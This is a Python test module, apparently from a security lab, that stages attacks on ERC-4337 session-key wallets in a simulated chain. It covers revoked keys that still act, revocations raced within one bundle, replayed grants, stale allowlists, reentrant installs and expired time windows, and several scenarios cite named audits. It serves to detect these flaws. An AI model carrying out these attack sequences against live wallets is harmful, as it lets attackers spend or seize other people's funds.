"""Attacks on the life of a session: install, revocation, and what stays behind."""

from __future__ import annotations

from sessionlab.attacks.attack import attack
from sessionlab.attacks.attack_lab import (
    COUNTER,
    INCREMENT,
    MERCHANT,
    OTHER_SESSION,
    OWNER,
    SESSION,
    STRANGER,
    TOKEN,
    WALLET,
    Scene,
    ask,
    left,
)
from sessionlab.attacks.gains import counts, owner, root, units, wei
from sessionlab.attacks.operations import act, deferred_operation, install, operation, revoke, send, signed
from sessionlab.core.contracts.artifacts import artifact
from sessionlab.core.erc4337 import wallet_encoding as account
from sessionlab.core.erc4337.wallet_encoding import RawCall
from sessionlab.core.permissions import (
    ContractAccess,
    Erc20TokenTransfer,
    FunctionsOnContract,
    GasLimit,
    NativeTokenTransfer,
    Root,
    rows,
)
from sessionlab.core.permissions.kinds import LimitKind

KEY = "the session key"
ACCESS = ContractAccess(address=COUNTER)
COINS = Erc20TokenTransfer(address=TOKEN, allowance=50)
ETHERS = NativeTokenTransfer(allowance=10)
PING = [RawCall(COUNTER, data=INCREMENT)]


def coins(amount: int) -> RawCall:
    """A transfer to the attacker."""
    return RawCall(TOKEN, data=artifact("Token").encode("transfer", STRANGER.address, amount))


@attack("life", holds=KEY, gain="an operation after the end", source="the rule itself")
def revoked_key(scene: Scene) -> str:
    """The owner revokes; the key goes on."""
    install(scene, [ACCESS])
    revoke(scene)
    act(scene, PING)
    return counts(scene)


@attack("life", holds=KEY, gain="an operation after the end", source="ERC-4337: what was signed stays signed")
def revoke_race(scene: Scene) -> str:
    """Signed before the revocation, mined after it; and in one bundle behind the owner's revocation."""
    for entity, key in ((1, SESSION), (2, OTHER_SESSION)):
        install(scene, [ACCESS], entity=entity, key=key)
        early = signed(scene, operation(scene, PING, entity=entity), key)
        ending = signed(scene, operation(scene, account.uninstall_call(entity), entity=0), OWNER)
        bundles = ([ending], [early]) if entity == 1 else ([ending, early],)
        for bundle in bundles:
            send(scene, *bundle)
    return counts(scene)


@attack(
    "life",
    holds="a root key and a bundler",
    gain="the wallet, by a key that has ended",
    source="ERC-4337: validated before",
    part_of="revoke-race",
)
def revoked_owner_maker(scene: Scene) -> str:
    """One bundle: the owner revokes, then the key names another owner, by a function of the wallet itself."""
    install(scene, [Root()])
    ending = signed(scene, operation(scene, account.uninstall_call(1), entity=0), OWNER)
    take = artifact("SessionWallet").encode("updateFallbackSignerData", STRANGER.address, False)
    send(scene, ending, signed(scene, operation(scene, take), SESSION))
    return owner(scene)


@attack("life", holds=f"{KEY} and a bundler", gain="1 ether, where 10 wei were granted", source="found here")
def revoked_in_the_bundle(scene: Scene) -> str:
    """One bundle: the owner revokes, then the key spends. All is validated before, nothing is counted any more."""
    install(scene, [ETHERS])
    ending = signed(scene, operation(scene, account.uninstall_call(1), entity=0), OWNER)
    send(scene, ending, signed(scene, operation(scene, [RawCall(MERCHANT, value=10**18)]), SESSION))
    return wei(scene, MERCHANT)


@attack(
    "life",
    holds="the first grant, never used",
    gain="a session that was revoked",
    source="SmartSession 3.1.2",
    part_of="deferred-replay",
)
def revoked_before_use(scene: Scene) -> str:
    """A signed grant is revoked before its first use, which installs it: the first use comes all the same."""
    op = deferred_operation(scene, rows([ACCESS]), PING)
    revoke(scene, with_hook_data=False)  # as clients do where nothing is installed
    send(scene, op)
    return counts(scene)


@attack(
    "life",
    holds="the key of the next session",
    gain="what the session before could reach",
    source="measured on production; ChainLight CL-003, Openfort OF-3",
    passes=("deployed",),
)
def stale_allowlist(scene: Scene) -> str:
    """Revoked without hook data, the lists stay: a narrower session under the same id inherits them."""
    install(scene, [ACCESS])
    revoke(scene, with_hook_data=False)
    install(scene, [COINS], life=1)
    act(scene, PING)
    return counts(scene)


@attack("life", holds="the key of the next session", gain="what was revoked", source="SmartSession 3.1.5, high")
def partial_removal(scene: Scene) -> str:
    """Twenty lists are revoked with hook data: a loop that skips elements leaves some."""
    targets = [f"0x{number:040x}" for number in range(0xA000, 0xA012)]
    wide = [ContractAccess(address=target) for target in targets]
    install(scene, [*wide, ACCESS, FunctionsOnContract(address=TOKEN, functions=["transfer(address,uint256)"])])
    revoke(scene)
    install(scene, [ContractAccess(address=MERCHANT)], life=1)
    reached = sum(act(scene, [RawCall(target)]).phase == "ok" for target in targets)
    act(scene, PING)
    act(scene, [coins(50)])
    return counts(scene) or units(scene) or (f"{reached} contracts" if reached else "")


@attack("life", holds=KEY, gain="a second allowance", source="Sequence v3 audit, SEQ-2")
def refill(scene: Scene) -> str:
    """The same signed grant is sent again after the allowance is used up."""
    first = deferred_operation(scene, rows([COINS, ETHERS]), [coins(50)], wrapped=True)
    send(scene, first)
    send(scene, first)
    again = deferred_operation(scene, rows([COINS, ETHERS]), [coins(50)], wrapped=True)
    send(scene, again)
    act(scene, [coins(50)])
    return units(scene, more_than=50)


@attack("life", holds=KEY, gain="limits of its own making", source="Porto account history")
def edit_own_limits(scene: Scene) -> str:
    """In one batch the session installs a wider one under its own id, or under another, and spends."""
    install(scene, [COINS, ACCESS])
    wider = [account.install_call(entity_id=i, key=SESSION.address, rows=rows([Root()])) for i in (1, 9)]
    for call in wider:
        act(scene, [RawCall(WALLET, data=call), coins(51)])
        act(scene, [*PING, RawCall(WALLET, data=call)])
        act(scene, call)
    act(scene, [RawCall(WALLET, data=account.uninstall_call(1)), coins(51)])
    return root(scene) or units(scene, more_than=50)


@attack("life", holds="the key of a second session", gain="another session's id", source="the rule itself")
def install_over_a_live_one(scene: Scene) -> str:
    """A live session's id is given to another key."""
    install(scene, [ACCESS])
    install(scene, [ACCESS], key=OTHER_SESSION)
    act(scene, PING, key=OTHER_SESSION)
    return counts(scene)


@attack("life", holds="no key at all", gain="the owner's lane", source="the rule itself")
def session_of_id_zero(scene: Scene) -> str:
    """A session is installed under id 0, where the owner validates."""
    install(scene, [Root()], entity=0, key=SESSION)
    made = ask(scene, "SessionWallet", WALLET, "session", 0)
    return "" if int(made[0], 16) == 0 else "a session in the owner's lane"


@attack("life", holds="a contract that calls back", gain="a session without limits", source="SmartSession, RN1 H-1")
def reentrant_install(scene: Scene) -> str:
    """A session is used before its limits are set: within the operation that installs it."""
    inside = RawCall(WALLET, data=account.execute(coins(51), wrapped=False))
    for calls in ([coins(51)], [inside], [coins(25), coins(26)]):
        send(scene, deferred_operation(scene, rows([COINS]), calls, wrapped=True))
    return units(scene, more_than=50)


@attack("life", holds="the owner's trust", gain="a session too large to remove", source="MetaMask, Cyfrin 7.4.3")
def storage_bloat(scene: Scene) -> str:
    """Ten thousand rows in one grant."""
    outcome = install(scene, given=list(rows([GasLimit(limit=1)])) * 10_000)
    live = ask(scene, "SessionWallet", WALLET, "session", 1)[0]
    bound = 256
    return f"more than {bound} rows" if outcome.phase == "ok" or int(live, 16) else ""


@attack("life", holds=KEY, gain="an operation after the last second", source="SmartSession audit, Cantina 3.1.1, high")
def window_edge(scene: Scene) -> str:
    """One second before the session begins, and one second after it has ended."""
    now = scene.chain.now
    install(scene, [ACCESS], valid_after=now + 10, valid_until=now + 20)
    scene.chain.travel_to(now + 9)
    act(scene, PING)
    scene.chain.travel_to(now + 21)
    act(scene, PING)
    return counts(scene)


@attack(
    "life", holds="a grant whose window is empty", gain="a session that ends before it begins", source="Cantina 3.1.1"
)
def inverted_window(scene: Scene) -> str:
    """valid_after is not before valid_until."""
    now = scene.chain.now
    for begin, end in ((now, now), (now + 10, now + 9)):
        install(scene, [ACCESS], valid_after=begin, valid_until=end)
        act(scene, PING)
    return counts(scene) or wei(scene, COUNTER) or ("an allowance" if left(scene, LimitKind.NATIVE) else "")
